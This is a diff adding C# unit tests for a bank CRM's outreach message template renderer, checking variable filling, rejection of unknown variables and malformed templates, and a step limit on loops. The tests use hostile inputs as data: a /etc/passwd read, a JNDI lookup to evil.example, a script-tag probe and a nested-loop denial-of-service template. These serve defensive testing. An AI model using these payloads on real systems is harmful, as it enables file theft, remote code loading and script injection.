@@ -1,0 +1,46 @@
+using BankCrm.Data.Engagement.Outreach;
+
+namespace BankCrm.Data.Tests.Engagement;
+
+public sealed class MessageTemplatesTests
+{
+    [Fact]
+    public void Render_WhenTemplateUsesTheModel_FillsTheVariables()
+    {
+        var text = MessageTemplates.Render("{{ customer_name }}您好，我是{{ branch_name }}的{{ rm_name }}，电话 {{ rm_phone }}。", MessageModel.Sample);
+
+        Assert.Equal("张先生您好，我是上海陆家嘴支行的李明，电话 021-5888 0000。", text);
+    }
+
+    [Theory]
+    [InlineData("@(System.IO.File.ReadAllText(\"/etc/passwd\"))")]
+    [InlineData("${jndi:ldap://evil.example/a}")]
+    [InlineData("<script>alert(1)</script>")]
+    public void Render_WhenTextLooksLikeCode_KeepsItLiteral(string hostile)
+    {
+        Assert.Null(MessageTemplates.Validate(hostile));
+        Assert.Equal(hostile, MessageTemplates.Render(hostile, MessageModel.Sample));
+    }
+
+    [Theory]
+    [InlineData("{{ customer.id_number }}")]
+    [InlineData("{{ password }}")]
+    public void Validate_WhenTemplateNamesAnUnknownVariable_RefusesWithTheAllowedList(string template)
+    {
+        var error = MessageTemplates.Validate(template);
+
+        Assert.NotNull(error);
+        Assert.Contains("customer_name", error, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("{{ 7*7 }}")]
+    [InlineData("{% if %}")]
+    [InlineData("")]
+    public void Validate_WhenTemplateIsNotUsable_SaysWhy(string template) =>
+        Assert.NotNull(MessageTemplates.Validate(template));
+
+    [Fact]
+    public void Render_WhenTemplateLoopsForLong_StopsAtTheStepLimit() =>
+        Assert.ThrowsAny<Exception>(() => MessageTemplates.Render("{% for i in (1..100000) %}{% for j in (1..100000) %}x{% endfor %}{% endfor %}", MessageModel.Sample));
+}
